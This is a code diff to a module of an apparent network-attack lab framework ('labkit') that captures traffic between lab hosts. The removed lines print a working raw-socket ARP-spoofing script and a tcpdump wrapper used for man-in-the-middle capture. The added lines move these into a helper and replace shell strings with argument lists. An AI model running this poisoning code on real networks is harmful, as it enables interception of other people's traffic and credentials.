@@ -14,6 +14,7 @@ from contextlib import contextmanager
 from functools import partial
 from typing import TYPE_CHECKING
 
+from labkit import agents
 from labkit.errors import ProbeError, ProbeTimeout
 from labkit.model import Foothold
 from labkit.techniques._base import ROOT_ON_WORKER
@@ -22,48 +23,10 @@ from labkit.techniques._reach import attacker, inside, run
 if TYPE_CHECKING:
     from labkit.lab import Lab
 
-__all__ = ["POISON", "between", "capture", "place_of", "wait"]
+__all__ = ["believed", "between", "capture", "forget", "place_of", "wait"]
 
 #: Seconds for the whole capture, and for anything to come true.
 LIMIT, PATIENCE = 90.0, 30.0
-#: Says to each first address of a pair that the second one is here, until it is killed.
-POISON = """
-import socket, sys, time
-own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
-link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
-link.bind(("eth0", 0))
-def owner(address):
-    while True:
-        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"", (address, 9))
-        for line in open("/proc/net/arp").read().splitlines():
-            fields = line.split()
-            if fields[0] == address and fields[3] != "00:00:00:00:00:00":
-                return bytes.fromhex(fields[3].replace(":", ""))
-        time.sleep(0.05)
-head = bytes.fromhex("0806000108000604") + b"\\0\\1"
-pairs = list(zip(sys.argv[1::2], sys.argv[2::2]))
-frames = [
-    owner(to) + own + head + own + socket.inet_aton(other) + bytes(6) + socket.inet_aton(to)
-    for to, other in pairs
-]
-while True:
-    for frame in frames:
-        link.send(frame)
-    time.sleep(0.3)
-"""
-CAPTURE = """
-set -u; dir=$1 filter=$2 poison=$3; shift 3
-mkdir -p "$dir"; trap 'rm -rf "$dir"' EXIT
-tcpdump -i eth0 -n -s 0 -U --immediate-mode -w "$dir/pcap" "$filter" 2>"$dir/tcpdump" & tcpdump=$!
-running=$tcpdump
-[ $# = 0 ] || { python3 -c "$poison" "$@" 2>"$dir/poison" & running="$running $!"; }
-while [ ! -e "$dir/stop" ]; do
-  for pid in $running; do kill -0 $pid || { cat "$dir"/tcpdump "$dir"/poison >&2; exit 9; }; done
-  sleep 0.1
-done
-kill $running; wait
-cat "$dir/pcap"
-"""
 
 
 def place_of(lab: Lab, foothold: Foothold) -> str:
@@ -100,7 +63,8 @@ def capture(
     ]
     _check_forwarding(lab, here)
     addresses = [inside(lab, node) for pair in told for node in pair]
-    argv = ["bash", "-c", CAPTURE, "capture", folder, filters, POISON, *addresses]
+    lead = agents.argv("arp_poison", *addresses) if addresses else []
+    argv = agents.argv("capture", folder, filters, *lead)
     with ThreadPoolExecutor(max_workers=1) as pool:
         future = pool.submit(run, lab, here, argv, timeout=LIMIT, check=True)
 
@@ -115,7 +79,8 @@ def capture(
             yield stop
         finally:
             if not future.done():
-                run(lab, here, ["sh", "-c", f"mkdir -p {folder}; touch {folder}/stop"])
+                run(lab, here, ["mkdir", "-p", folder])
+                run(lab, here, ["touch", f"{folder}/stop"])
                 future.exception()
             forget(lab, told)
 
@@ -137,8 +102,8 @@ def believed(lab: Lab, here: str, told: Sequence[tuple[str, str]]) -> None:
 def forget(lab: Lab, told: Sequence[tuple[str, str]]) -> None:
     """Let machines ask again who is who."""
     for victim, others in _by_victim(told).items():
-        flush = "; ".join(f"ip neigh flush to {inside(lab, o)} dev eth0" for o in others)
-        run(lab, victim, ["sh", "-c", flush])
+        for other in others:
+            run(lab, victim, ["ip", "neigh", "flush", "to", inside(lab, other), "dev", "eth0"])
 
 
 def _check_forwarding(lab: Lab, here: str) -> None:
